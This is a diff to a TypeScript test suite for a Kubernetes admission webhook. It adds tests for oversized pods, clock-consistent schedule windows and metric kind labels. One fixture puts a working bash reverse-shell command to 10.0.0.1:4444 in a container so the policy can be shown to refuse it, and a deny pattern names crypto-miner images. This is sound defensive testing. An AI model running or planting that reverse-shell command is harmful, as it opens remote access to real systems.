@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import { systemClock } from '../../../src/base/clock.ts';
+import { systemClock, type Clock } from '../../../src/base/clock.ts';
 import { silentLog } from '../../../src/base/log.ts';
 import type { CompiledPolicy } from '../../../src/engine/compiled-policy.ts';
 import { compileGlob } from '../../../src/engine/glob.ts';
@@ -43,22 +43,31 @@ interface Response {
 
 function setup(
   policies: CompiledPolicy[],
-  opts: { evaluator?: PodEvaluator; loaded?: boolean; deadlineMs?: number } = {},
-): { ask: (path: string, body: unknown) => Promise<Response>; outcomes: AdmissionOutcome[] } {
+  opts: { evaluator?: PodEvaluator; loaded?: boolean; deadlineMs?: number; clock?: Clock } = {},
+): {
+  ask: (path: string, body: unknown) => Promise<Response>;
+  outcomes: AdmissionOutcome[];
+  kinds: string[];
+} {
   const outcomes: AdmissionOutcome[] = [];
+  const kinds: string[] = [];
   const handler = new AdmissionHandler({
     evaluator: opts.evaluator ?? inlineEvaluator,
     policies: () => policies,
     loaded: () => opts.loaded ?? true,
     namespaceLabels: () => ({}),
     exempt: ['deployguard-system', 'kube-*'].map(compileGlob),
-    clock: systemClock,
+    clock: opts.clock ?? systemClock,
     log: silentLog,
     deadlineMs: opts.deadlineMs,
-    onOutcome: (_kind, outcome) => outcomes.push(outcome),
+    onOutcome: (kind, outcome) => {
+      outcomes.push(outcome);
+      kinds.push(kind);
+    },
   });
   return {
     outcomes,
+    kinds,
     ask: async (path, body) => {
       const a = await handler.handle(path, body);
       expect(a.code).to.equal(200);
@@ -105,6 +114,28 @@ describe('admission: handler', () => {
     const ok = await ask(PODS_PATH, review({ object: podJson() }));
     expect(ok).to.deep.equal({ uid: 'r-1', allowed: true });
     expect(outcomes).to.deep.equal(['warned', 'allowed']);
+  });
+
+  it('refuses a pod padded past the bounds even under minSeverity critical: the padding may hide anything', async () => {
+    const { ask } = setup([
+      deny({
+        rules: { indicators: { enabled: true } },
+        admission: { action: 'Deny', minSeverity: 'critical' },
+      }),
+    ]);
+    const padded = podJson({
+      containers: [
+        { name: 'pad', image: 'app:1', env: [{ name: 'X', value: 'x'.repeat(130 * 1024) }] },
+        {
+          name: 'sh',
+          image: 'app:1',
+          command: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+        },
+      ],
+    });
+    const r = await ask(PODS_PATH, review({ object: padded }));
+    expect(r.allowed).to.equal(false);
+    expect(r.status?.message).to.contain('input.oversized');
   });
 
   it('judges a workload by its template, with the path in the workload', async () => {
@@ -156,6 +187,26 @@ describe('admission: handler', () => {
     expect(r.status?.message).to.contain('(ephemeralcontainers)');
   });
 
+  it('judges the old and new object at one instant: a schedule window never makes a label update new', async () => {
+    // A clock that moves on every reading, as a busy machine's does between two evaluations.
+    let t = Date.parse('2026-12-08T03:00:00Z');
+    const ticking: Clock = { ...systemClock, now: () => (t += 61_000) };
+    const window = { days: ['Mon'], start: '09:00', end: '10:00', timeZone: 'UTC' };
+    const { ask } = setup([deny({ rules: { schedule: { allowedWindows: [window] } } })], {
+      clock: ticking,
+    });
+    const old = podJson();
+    const labelled = podJson({}, { labels: { on: 'call' } });
+    for (let i = 0; i < 5; i++) {
+      const r = await ask(
+        PODS_PATH,
+        review({ operation: 'UPDATE', object: labelled, oldObject: old }),
+      );
+      expect(r.allowed).to.equal(true);
+    }
+    expect((await ask(PODS_PATH, review({ object: podJson() }))).allowed).to.equal(false);
+  });
+
   it('a changed image is a new violation even where the old one broke the same rule', async () => {
     const { ask } = setup([deny({ rules: { images: { deniedImages: ['*miner*'] } } })]);
     const at = (image: string) => podJson({ containers: [{ name: 'app', image }] });
@@ -167,7 +218,7 @@ describe('admission: handler', () => {
   });
 
   it('never judges an exempt namespace, a DELETE, or a kind that carries no pod', async () => {
-    const { ask } = setup([deny()]);
+    const { ask, kinds } = setup([deny()]);
     for (const req of [
       { namespace: 'kube-system', object: podJson(PRIV) },
       { namespace: 'deployguard-system', object: podJson(PRIV) },
@@ -175,6 +226,8 @@ describe('admission: handler', () => {
       { kind: { group: '', version: 'v1', kind: 'ConfigMap' }, object: { kind: 'ConfigMap' } },
     ])
       expect((await ask(PODS_PATH, review(req))).allowed).to.equal(true);
+    // A caller's made-up kind never becomes a metric series of its own.
+    expect(kinds).to.deep.equal(['Pod', 'Pod', 'Pod', 'other']);
   });
 
   it('fails open, with a warning, before the policies are loaded and when judging is too slow', async () => {
